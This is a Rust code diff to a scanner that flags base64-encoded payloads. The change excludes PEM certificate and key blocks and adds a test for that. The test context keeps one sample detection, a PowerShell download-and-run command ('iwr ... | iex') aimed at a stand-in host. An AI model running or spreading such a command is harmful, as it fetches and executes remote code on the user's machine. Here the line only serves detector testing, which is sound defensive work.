@@ -113,8 +113,12 @@ fn find_payloads(body: &str, base: usize) -> Vec<Payload> {
                 });
             }
         };
+    let pem = pem_blocks(body);
     for m in BASE64.find_iter(body).take(MAX_CANDIDATES) {
-        if in_binary_data_uri(body, m.start()) || m.as_str().len() > MAX_DECODED_BYTES * 4 / 3 {
+        if in_binary_data_uri(body, m.start())
+            || m.as_str().len() > MAX_DECODED_BYTES * 4 / 3
+            || pem.iter().any(|(s, e)| *s <= m.start() && m.start() < *e)
+        {
             continue;
         }
         let decoded = decode_base64(m.as_str()).and_then(|bytes| readable(&bytes));
@@ -162,6 +166,23 @@ fn find_payloads(body: &str, base: usize) -> Vec<Payload> {
     found.sort_by_key(|p| p.start);
     found.dedup_by_key(|p| p.start);
     found
+}
+
+/// `-----BEGIN …-----` to `-----END …-----`: certificates and keys are base64 of DER, not payloads.
+fn pem_blocks(body: &str) -> Vec<(usize, usize)> {
+    let mut blocks = Vec::new();
+    let mut from = 0;
+    while let Some(begin) = body[from..].find("-----BEGIN ").map(|i| from + i) {
+        let end = body[begin..]
+            .find("-----END ")
+            .map_or(body.len(), |i| begin + i);
+        blocks.push((begin, end));
+        from = end.max(begin + 1);
+        if blocks.len() > 10_000 {
+            break;
+        }
+    }
+    blocks
 }
 
 /// Base64 inside a `data:` URI of an image, font, media, source map or binary blob is not a payload.
@@ -691,5 +712,14 @@ mod tests {
                 "iwr https://x.example.invalid/a.ps1 | iex".to_string()
             )]
         );
+    }
+
+    #[test]
+    fn certificates_are_not_payloads() {
+        let line =
+            encode_base64(b"http://crl.example.invalid/root.crl and https://ocsp.example.invalid/");
+        let text = format!("-----BEGIN CERTIFICATE-----\n{line}\n-----END CERTIFICATE-----\n");
+        assert!(found(&text, Language::Text, "cacert.pem").is_empty());
+        assert_eq!(found(&line, Language::Text, "notes.txt").len(), 1);
     }
 }
